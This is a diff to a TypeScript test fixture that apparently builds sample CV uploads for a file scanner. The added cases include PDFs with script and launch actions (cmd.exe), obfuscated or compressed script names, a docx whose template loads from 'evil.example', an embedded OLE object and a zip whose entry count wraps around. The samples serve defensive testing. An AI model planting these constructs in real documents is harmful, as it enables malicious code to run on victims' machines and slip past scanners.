@@ -1,4 +1,4 @@
-import { crc32, deflateRawSync } from 'node:zlib';
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 
 interface Entry {
   name: string;
@@ -40,8 +40,8 @@ function zip(entries: Entry[]): Buffer {
   const list = Buffer.concat(directory);
   const end = Buffer.alloc(22);
   end.write('PK\x05\x06', 0, 'latin1');
-  end.writeUInt16LE(entries.length, 8);
-  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt16LE(entries.length % 65_536, 8);
+  end.writeUInt16LE(entries.length % 65_536, 10);
   end.writeUInt32LE(list.length, 12);
   end.writeUInt32LE(offset, 16);
   return Buffer.concat([...files, list, end]);
@@ -63,6 +63,67 @@ export const documents = {
     Buffer.alloc(500),
   ]),
 };
+
+const pdfWith = (object: string | Buffer) =>
+  Buffer.concat([
+    Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n2 0 obj'),
+    Buffer.from(object),
+    Buffer.from('endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
+  ]);
+const packed = (text: string) =>
+  Buffer.concat([
+    Buffer.from('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\r\n'),
+    deflateSync(text),
+    Buffer.from('\nendstream '),
+  ]);
+const relation = (kind: string, target: string) => ({
+  name: 'word/_rels/settings.xml.rels',
+  data: xml(
+    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" ${target}/></Relationships>`,
+  ),
+});
+
+/** Documents that do something when they are opened. */
+export const programs = {
+  'a pdf with a script': ['cv.pdf', pdfWith('<</S/JavaScript/JS(app.alert\\(1\\))>>')],
+  'a pdf whose script is written by numbers': ['cv.pdf', pdfWith('<</S/J#61va#53cript/JS(x)>>')],
+  'a pdf that starts a program': ['cv.pdf', pdfWith('<</S /Launch /F (cmd.exe)>>')],
+  'a pdf whose script is packed': ['cv.pdf', pdfWith(packed('2 0 <</S/JavaScript/JS(x)>>'))],
+  'a docx that fetches its template': [
+    'cv.docx',
+    zip([
+      ...docxParts,
+      relation('attachedTemplate', 'Target="https://evil.example/t.dotm" TargetMode="External"'),
+    ]),
+  ],
+  'a docx with an object of another program': [
+    'cv.docx',
+    zip([...docxParts, { name: 'word/embeddings/oleObject1.bin', data: Buffer.from('x') }]),
+  ],
+} as const satisfies Record<string, readonly [string, Buffer]>;
+
+/** What looks like one of them and is harmless. */
+export const harmless = {
+  'a pdf with a link and an attached file': [
+    'cv.pdf',
+    pdfWith('<</S/URI/URI(https://example.com/JavaScript)/Names[/EmbeddedFiles]>>'),
+  ],
+  'a pdf with packed objects': ['cv.pdf', pdfWith(packed('2 0 <</Type/Page>>'))],
+  'a docx with a link': [
+    'cv.docx',
+    zip([...docxParts, relation('hyperlink', 'Target="https://a.example" TargetMode="External"')]),
+  ],
+  'a docx with a template of the machine': [
+    'cv.docx',
+    zip([...docxParts, relation('attachedTemplate', 'Target="Normal.dotm"')]),
+  ],
+} as const satisfies Record<string, readonly [string, Buffer]>;
+
+export const locked = Buffer.concat([
+  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
+  Buffer.alloc(2000),
+  Buffer.from('EncryptedPackage', 'utf16le'),
+]);
 
 export const disguises = {
   'an exe named pdf': ['cv.pdf', Buffer.from('MZ\x90\0This program cannot be run in DOS mode')],
@@ -95,6 +156,13 @@ export const disguises = {
     zip([
       ...docxParts,
       ...Array.from({ length: 10_000 }, (_, n) => ({ name: `word/${n}`, data: Buffer.from('x') })),
+    ]),
+  ],
+  'a docx whose count of parts begins again': [
+    'cv.docx',
+    zip([
+      ...docxParts,
+      ...Array.from({ length: 65_536 }, (_, n) => ({ name: `w/${n}`, data: Buffer.alloc(0) })),
     ]),
   ],
   'a docx cut short': ['cv.docx', documents.docx.subarray(0, documents.docx.length - 30)],
